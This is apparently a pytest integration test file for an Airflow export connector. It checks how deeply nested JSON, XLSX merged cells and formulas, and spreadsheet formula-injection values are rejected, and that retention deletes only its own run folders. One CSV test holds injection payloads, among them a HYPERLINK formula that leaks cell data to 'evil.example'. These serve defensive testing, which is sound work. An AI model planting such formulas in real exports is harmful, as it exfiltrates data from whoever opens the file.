"""Hostile exports through Airflow (dag.test, FTP, the emulator over HTTP): a record nested
100,000 levels deep, XLSX merged cells and formulas without a computed value, rejected values a
spreadsheet program would run, and a staging base shared with other data under retention."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from saleslayer_airflow import staging
from tests.e2e.conftest import World, catalog, changed_copy, first_day, states, xcom

DEEP = 100_000

CONNECTOR = """\
id: {id}
description: Hostile export from FTP into the emulator.
schedule: "@daily"
start_date: 2026-11-01
retries: 0
source:
  kind: ftp
  conn_id: erp_ftp
  path: "/exports/stores_{{{{ ds_nodash }}}}.{ext}"
  stable_for: 0s
format: {format}
tables:
  points_of_sale:
    reference: store_number
    fields:
      pos_name: {{column: store_name, required: true}}
      pos_country: {{column: country, max_length: 2}}
target: {{conn_id: saleslayer_default, batch_size: 7}}
validation: {{max_reject_ratio: 1.0}}
{extra}"""


def _connector(world: World, dag_id: str, ext: str, fmt: str, extra: str = "") -> None:
    text = CONNECTOR.format(id=dag_id, ext=ext, format=fmt, extra=extra)
    world.write_connector(dag_id, text)


def _rejects(world: World, dag_run: Any) -> list[dict[str, str]]:
    folder = staging.run_folder((world.tmp / "staging").as_uri(), world.dag_id, dag_run.run_id)
    with (folder / staging.REJECTS_FILE).open("r", encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _store(number: str, name: str, country: str = "PT") -> dict[str, str]:
    return {"store_number": number, "store_name": name, "country": country}


@pytest.mark.integration
@pytest.mark.parametrize("kind", ["json", "jsonl"])
def test_a_record_nested_100000_levels_is_a_reject_and_the_rest_arrives(
    world: World, kind: str
) -> None:
    day, _ = first_day()
    deep_record = "[" * DEEP + "]" * DEEP
    deep_value = json.dumps(_store("ST-2", "Deep value"))[:-1] + ', "x": '
    deep_value += '{"a": ' * DEEP + "1" + "}" * DEEP + "}"
    records = [
        json.dumps(_store("ST-1", "Lisboa")),
        deep_record,
        deep_value,
        json.dumps(_store("ST-3", "Porto")),
    ]
    if kind == "json":
        text = '{"stores": [\n' + ",\n".join(records) + "\n]}\n"  # records on lines 2-5
        lines = {"ST-1": 2, "deep": 3, "ST-2": 4}
        fmt = "{type: json, records_path: stores}"
    else:
        text = "\n".join(records) + "\n"
        lines = {"ST-1": 1, "deep": 2, "ST-2": 3}
        fmt = "{type: jsonl}"
    _connector(world, f"deep_{kind}", kind, fmt)
    world.publish_file(f"stores_{day:%Y%m%d}.{kind}", text)

    dag_run = world.run(day)

    assert dag_run.state == "success", states(dag_run)
    assert sorted(catalog(world.emulator)) == ["ST-1", "ST-3"]
    rejects = _rejects(world, dag_run)
    assert [(r["line"], r["reference"]) for r in rejects] == [
        (str(lines["deep"]), ""),
        (str(lines["ST-2"]), ""),
    ]
    assert f"nested {DEEP:,} levels deep, more than the 200 levels read" in rejects[0]["reason"]
    assert f"nested {DEEP + 1:,} levels deep" in rejects[1]["reason"]
    split = xcom(dag_run, "validate_and_split")
    assert split["rows_read"] == 4 and split["rows_rejected"] == 2, split
    report = xcom(dag_run, "report")
    table = report["tables"]["points_of_sale"]
    assert (table["read"], table["created"], table["rejected"]) == (4, 2, 2), table


def _workbook() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    rows: list[list[Any]] = [
        ["store_number", "store_name", "country"],
        ["ST-1", "Lisboa", "PT"],
        ["ST-2", "Porto", "PT"],  # C3:C4 merged: "PT" is only in C3
        ["ST-3", "Braga", None],
        ["ST-4", '=B2&" Norte"', "PT"],  # written by a library: never computed
        ["ST-5", "Faro", "PT"],
    ]
    for row in rows:
        sheet.append(row)
    sheet.merge_cells("C3:C4")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.integration
def test_xlsx_merged_cell_and_uncomputed_formula_are_rejects_with_their_address(
    world: World,
) -> None:
    day, _ = first_day()
    _connector(world, "merged_xlsx", "xlsx", "{type: xlsx}")
    (world.ftp_root / "exports" / f"stores_{day:%Y%m%d}.xlsx").write_bytes(_workbook())

    dag_run = world.run(day)

    assert dag_run.state == "success", states(dag_run)
    assert sorted(catalog(world.emulator)) == ["ST-1", "ST-2", "ST-5"]
    rejects = _rejects(world, dag_run)
    assert [(r["line"], r["reference"], r["column"]) for r in rejects] == [
        ("4", "ST-3", "country"),
        ("5", "ST-4", "store_name"),
    ]
    assert rejects[0]["reason"].startswith(
        "C4 is part of merged range C3:C4, so it reads empty (only C3 holds the value); unmerge"
    )
    assert rejects[1]["reason"].startswith(
        'B5: formula =B2&" Norte" has no computed value; open and save the file in a '
        "spreadsheet program, or export values"
    )
    # the formula is shown as text in rejects.csv, not run
    assert rejects[1]["value"] == '\'=B2&" Norte"'


@pytest.mark.integration
def test_rejects_csv_shows_formulas_as_text(world: World) -> None:
    day, _ = first_day()
    _connector(world, "formula_csv", "csv", "{type: csv}")
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    rows = [
        ["store_number", "store_name", "country"],
        ["ST-1", "Lisboa", "PT"],
        ["ST-2", "Porto", hyperlink],
        ["+ST-3", "Braga", "=1+1"],
        ["ST-4", "Faro", "@SUM(A1:A9)"],
        ["ST-5", "Évora", "-12"],
        ["ST-6", "Tab", "\t=cmd"],
    ]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    world.publish_file(f"stores_{day:%Y%m%d}.csv", out.getvalue())

    dag_run = world.run(day)

    assert dag_run.state == "success", states(dag_run)
    assert sorted(catalog(world.emulator)) == ["ST-1"]
    rejects = _rejects(world, dag_run)
    assert [(r["reference"], r["value"]) for r in rejects] == [
        ("ST-2", "'" + hyperlink),
        ("'+ST-3", "'=1+1"),
        ("ST-4", "'@SUM(A1:A9)"),
        ("ST-5", "'-12"),
        ("ST-6", "'\t=cmd"),
    ]
    folder = staging.run_folder((world.tmp / "staging").as_uri(), world.dag_id, dag_run.run_id)
    raw = (folder / staging.REJECTS_FILE).read_text(encoding="utf-8")
    assert "\n=" not in raw and ",=" not in raw and ',"=' not in raw


def _precious(path: Path) -> Path:
    (path / "sub").mkdir(parents=True)
    (path / "sub" / "keep.txt").write_text("not staging data")
    (path / "landed").mkdir()
    return path


def _age(path: Path, days: int = 30) -> None:
    stamp = (first_day()[0] - timedelta(days=days)).timestamp()
    os.utime(path, (stamp, stamp))


@pytest.mark.integration
def test_retention_removes_only_its_own_old_run_folders(world: World) -> None:
    day, text = first_day()
    shared = world.tmp / "shared-drive"  # `staging.base` pointed at a folder of other data
    mine = shared / "retained"
    old_folders = [
        _precious(mine / "manual__2026-09-01"),  # looks like a run folder, carries no marker
        _precious(mine / "photos"),
        _precious(shared / "other-tool" / "job_1"),
    ]
    (mine / "notes.txt").write_text("not staging data")
    (mine / "link").symlink_to(shared / "other-tool", target_is_directory=True)
    for path in [*old_folders, mine / "notes.txt"]:
        _age(path)
    extra = f"staging: {{base: {shared.as_uri()!r}, retention_days: 7}}\n"
    _connector(world, "retained", "csv", "{type: csv}", extra)
    world.publish(day, text)
    first = world.run(day)
    assert first.state == "success", states(first)
    first_folder = mine / staging.safe_segment(first.run_id)
    marker = json.loads((first_folder / staging.RUN_MARKER).read_text(encoding="utf-8"))
    assert (marker["connector_id"], marker["run_id"]) == ("retained", first.run_id)
    _age(first_folder)

    next_day = day + timedelta(days=1)
    world.publish(next_day, changed_copy(text))
    second = world.run(next_day)

    assert second.state == "success", states(second)
    assert not first_folder.exists(), "the old marked run folder goes"
    assert (mine / staging.safe_segment(second.run_id) / staging.RUN_MARKER).is_file()
    for path in old_folders:
        assert (path / "sub" / "keep.txt").read_text() == "not staging data", path
    assert (mine / "notes.txt").exists() and (mine / "link").is_symlink()
    assert (mine / "_state").is_dir()
